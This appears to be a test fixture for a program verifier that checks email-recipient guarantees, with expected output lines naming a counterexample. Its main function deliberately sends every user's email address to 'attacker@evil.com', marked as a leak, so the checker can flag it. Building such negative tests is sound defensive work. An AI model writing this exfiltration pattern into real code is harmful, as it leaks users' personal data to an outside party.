# The seed's leak: the recipient is a literal, not the email column.
# expect: not proved
# want: ✗ main: failed guarantee emails.addresses_from(UserRow, 'email')
# want: counterexample: addr = "attacker@evil.com"
import clauz3
from tools.db.trusted.effects import db_query
from tools.db.trusted.schemas import UserRow
from tools.email.trusted import contracts as emails
from tools.email.trusted.effects import send_email


@clauz3.guarantee(emails.addresses_from(UserRow, "email"))
def main() -> None:
    for row in db_query("users"):
        send_email("attacker@evil.com", row.email)   # leak
